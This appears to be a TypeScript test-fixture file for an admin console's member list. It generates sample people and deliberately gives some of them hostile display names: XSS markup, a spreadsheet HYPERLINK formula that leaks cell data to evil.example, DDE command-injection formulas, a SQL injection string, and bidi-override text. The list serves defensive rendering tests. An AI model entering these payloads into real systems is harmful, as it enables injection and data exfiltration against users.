export type PersonStatus = 'active' | 'pending' | 'expired';

export interface Person {
  readonly id: string;
  /** As the person typed it: hostile text. Empty while an invitation is pending. */
  readonly name: string;
  readonly email: string;
  /** Role labels as the console shows them; several only where the console allows it. */
  readonly roles: readonly string[];
  readonly status: PersonStatus;
  /** ISO time, null for people who founded the organization. */
  readonly invitedAt: string | null;
  /** The admin who is signed in. */
  readonly you: boolean;
  /** App name to app role. */
  readonly apps: Readonly<Record<string, string>>;
  readonly groups: readonly string[];
  /** Workspace name to what the person may do there. */
  readonly workspaces: Readonly<Record<string, string>>;
}

export type PersonInput = Partial<Omit<Person, 'roles'>> &
  Pick<Person, 'email'> & { readonly role?: string; readonly roles?: readonly string[] };

let counter = 0;

/** A complete person from the few fields that matter. */
export function person(input: PersonInput): Person {
  counter += 1;
  const { role, roles, ...rest } = input;
  return {
    id: `p${Date.now().toString(36)}${counter}`,
    name: '',
    status: 'active',
    invitedAt: null,
    you: false,
    apps: {},
    groups: [],
    workspaces: {},
    ...rest,
    roles: roles ?? (role === undefined ? [] : [role]),
  };
}

/** `sam.rivera@acme.example` becomes `Sam Rivera`: what a person might type on accepting. */
export function nameFromEmail(email: string): string {
  const local = email.split('@')[0] ?? email;
  return local
    .split(/[._+-]+/)
    .filter((word) => word !== '')
    .map((word) => word.charAt(0).toUpperCase() + word.slice(1))
    .join(' ');
}

/** Names that a reader of the page must survive: markup, formulas, bidi overrides, words of the page itself. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror="window.practiceHacked=true">',
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '\u202Egnp.noitativni\u202C Adams',
  '<script>window.practiceHacked=true</script>',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Pending',
  'Admin',
  'Name\tEmail\tRole',
  "Robert'); DROP TABLE members;--",
  'O\u2019Brien, "Quote" & Sons',
  'dana.whitfield@acme.example',
  '\u200B\u200B\u200B',
  'Z\u0351\u036B\u0343a\u0350\u0357lgo\u0361 Text',
  '\u5F20\u4F1F (Wei)',
  '\u0645\u062D\u0645\u062F \u0639\u0644\u064A',
  `${'Wolfeschlegelstein'.repeat(8)} Senior`,
  '-2+3',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} Family',
  'Invite member',
];

const FIRST = ['Amara', 'Ben', 'Chloe', 'Diego', 'Elif', 'Farah', 'Goran', 'Hana', 'Ivan', 'Jun', 'Kofi', 'Lucia'];
const LAST = ['Adeyemi', 'Brandt', 'Costa', 'Dubois', 'Eriksen', 'Fujita', 'Garcia', 'Haddad', 'Ito', 'Jensen', 'Khan'];

/** The same `count` people at each call; every fifth has a hostile name, every eleventh is still pending. */
export function generatedPeople(count: number, roles: readonly string[]): Person[] {
  return Array.from({ length: count }, (_, index) => {
    const first = FIRST[index % FIRST.length] ?? '';
    const last = LAST[Math.floor(index / FIRST.length) % LAST.length] ?? '';
    const pending = index % 11 === 10;
    const hostile = HOSTILE_NAMES[Math.floor(index / 5) % HOSTILE_NAMES.length] ?? '';
    return person({
      id: `g${index}`,
      name: pending ? '' : index % 5 === 2 ? hostile : `${first} ${last}`,
      email: `${first}.${last}.${index}@people.example`.toLowerCase(),
      role: roles[index % roles.length] ?? '',
      status: pending ? 'pending' : 'active',
      invitedAt: pending ? new Date(Date.UTC(2026, 9, 1 + (index % 28), 9)).toISOString() : null,
    });
  });
}
